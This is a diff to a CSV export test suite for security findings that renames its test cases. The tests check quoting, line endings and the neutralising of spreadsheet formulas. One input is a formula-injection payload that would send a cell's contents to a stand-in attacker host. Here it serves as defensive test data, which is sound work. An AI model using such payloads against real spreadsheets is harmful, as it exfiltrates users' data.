@@ -19,7 +19,7 @@ async function cellsOf(said: Parameters<typeof exported>[0]): Promise<Record<str
 }
 
 describe('findings as CSV', () => {
-  it('are a header and a line each, with CRLF at the end of every one and no byte order mark', async () => {
+  it('findings as CSV are a header and a line each, with CRLF at the end of every one and no byte order mark', async () => {
     const csv = await written(csvOf, [exported(), exported(), exported()], 2);
     expect(csv).toMatch(/^"id","fingerprint","ruleId",/);
     expect(csv.endsWith('\r\n')).toBe(true);
@@ -29,11 +29,11 @@ describe('findings as CSV', () => {
     for (const row of rows) expect(row).toHaveLength(header?.length ?? 0);
   });
 
-  it('are a header alone where there are none', async () => {
+  it('findings as CSV are only a header if there are no findings', async () => {
     expect(read(await written(csvOf, []))).toHaveLength(1);
   });
 
-  it('keep everything that the API shows', async () => {
+  it('findings as CSV contain every member of the API', async () => {
     const muted = { reason: 'A static site', expiresAt: '2027-01-01T00:00:00.000Z' };
     expect(await cellsOf({ ...RESOLVED, muted })).toEqual({
       id: '0199c2a4-9b60-7d41-a3f2-58c1e7d90b36',
@@ -61,7 +61,7 @@ describe('findings as CSV', () => {
   });
 
   it.each(['a,b', 'a;b', 'say "no"', '"', 'two\r\nlines', 'two\nlines', ' blank ', '日本', ''])(
-    'keep %j as it is',
+    'a CSV field keeps the value %j',
     async (message) => {
       expect(await cellsOf({ message })).toMatchObject({ message });
     },
@@ -89,7 +89,7 @@ describe('findings as CSV', () => {
     '\uff0d1',
     '\uff20x',
     `=HYPERLINK("https://evil.example?"&A1,"x")`,
-  ])('make a text of %j, which a spreadsheet would calculate', async (message) => {
+  ])('a CSV field makes text of %j, which a spreadsheet would calculate', async (message) => {
     expect(await cellsOf({ message, subject: message })).toMatchObject({
       message: `'${message}`,
       subject: `'${message}`,
@@ -97,7 +97,7 @@ describe('findings as CSV', () => {
   });
 
   it.each(['a=1', '1-1', '//storage.googleapis.com/=x', 'allUsers', '#x', '(-1)'])(
-    'leave %j alone, which none would',
+    'a CSV field leaves %j unchanged, which no spreadsheet would calculate',
     async (message) => {
       expect(await cellsOf({ message })).toMatchObject({ message });
     },
